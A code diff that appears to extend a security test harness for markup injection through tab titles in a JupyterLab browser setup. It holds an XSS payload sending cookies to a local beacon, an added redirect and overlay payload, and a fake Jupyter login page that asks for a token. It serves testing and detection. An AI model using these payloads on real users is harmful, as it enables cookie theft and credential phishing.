@@ -53,6 +53,15 @@ def title_payloads(port: int) -> dict[str, str]:
             f"<img src=y onerror=\"new Image().src='http://127.0.0.1:{port}/beacon?via=inline&what=cookie"
             "&ok='+(/_xsrf/.test(document.cookie)?1:0)+'&detail='+encodeURIComponent(document.cookie)\">"
         ),
+        # No script at all: markup that takes the Firefox tab's frame to the attacker's page
+        # (a fake Jupyter login inside JupyterLab), by itself or at the user's first click.
+        # Last: where it works, the views show the attacker's page from then on.
+        "navigate": (
+            f'<meta http-equiv=refresh content="0;url=http://127.0.0.1:{port}/phish?via=refresh">'
+            f"<iframe src=http://127.0.0.1:{port}/phish?via=iframe></iframe>"
+            f'<a href="http://127.0.0.1:{port}/phish?via=navlink" '
+            'style="position:fixed;inset:0;display:block;z-index:99999">Firefox</a>'
+        ),
     }
 
 
@@ -209,6 +218,11 @@ class HostileSite:
         with self._lock:
             return [s for s in self.requests if s.by_chromium and s.path.startswith(("/evil.js", "/beacon"))]
 
+    def phished(self) -> list[Seen]:
+        """Chromium loaded the attacker's fake login page (a title's markup navigated a frame)."""
+        with self._lock:
+            return [s for s in self.requests if s.by_chromium and s.path.startswith("/phish")]
+
     # --- serving ------------------------------------------------------------------------------
     def _record(self, handler: http.server.BaseHTTPRequestHandler) -> None:
         seen = Seen(
@@ -251,6 +265,9 @@ class HostileSite:
                 "<!doctype html><title>framer</title>"
                 f'<iframe id="victim" src="{src}" width="900" height="600"></iframe>'
             )
+            return 200, "text/html; charset=utf-8", page.encode()
+        if parts.path == "/phish":
+            page = "<!doctype html><title>Jupyter</title><p>Your session expired. Token: <input></p>"
             return 200, "text/html; charset=utf-8", page.encode()
         if parts.path == "/beacon":
             return 204, "text/plain", b""
